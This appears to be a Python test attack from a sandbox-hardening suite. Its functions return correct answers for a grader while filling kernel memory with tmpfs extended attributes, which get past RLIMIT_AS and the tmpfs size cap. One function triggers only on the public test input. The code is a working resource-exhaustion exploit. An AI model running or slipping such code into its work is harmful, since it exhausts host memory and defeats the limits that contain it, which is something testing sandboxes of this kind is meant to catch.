"""Attack k01: memory in extended attributes, which neither RLIMIT_AS nor the tmpfs's size counts.

Since round j a session's working folder is a tmpfs of its own, as large as the template's /tmp
(about 1 GiB). Linux 6.6+ lets tmpfs hold user.* extended attributes, kept in kernel memory
(one kmalloc per value, up to 64 KiB each) and charged only to the tmpfs's inode space
(nr_inodes x 1 KiB, the default nr_inodes being half the machine's pages), never to its size
nor to the process's RLIMIT_AS. Each of the three public calls (add, scale, output_shape: a call
has 3 s) stores PER_CALL_MB more in 64 KiB values on files of its own folder, until the kernel
refuses, and prints the session's total in its output (the test reads it from the record).
Honest otherwise: 4/4."""

import os

import numpy as np

PER_CALL_MB = 600  # three calls: 1.8 GB, more than memory_mb (1 GiB) and the folder's tmpfs
VALUE = b"k" * (65536 - 64)  # one 64 KiB allocation each (the kernel's header fits in the rest)
STATE = {"files": 0, "stored": 0, "error": "none"}


def _store():
    goal = STATE["stored"] + PER_CALL_MB * 2**20
    try:
        while STATE["stored"] < goal:
            path = f"x{STATE['files']}"
            STATE["files"] += 1
            with open(path, "wb"):
                pass
            for j in range(100):
                os.setxattr(path, f"user.k{j}", VALUE)
                STATE["stored"] += len(VALUE)
    except OSError as e:
        STATE["error"] = f"errno {e.errno}"
    print(f"xattrs stored: {STATE['stored'] >> 20} MB (refused: {STATE['error']})")


def add(a, b):
    _store()
    return a + b


def scale(x, k):
    if len(x) == 3:  # the public case (the hidden one gets other inputs)
        _store()
    return np.asarray(x, dtype=float) * k


def output_shape(shape):
    _store()
    return tuple(shape)
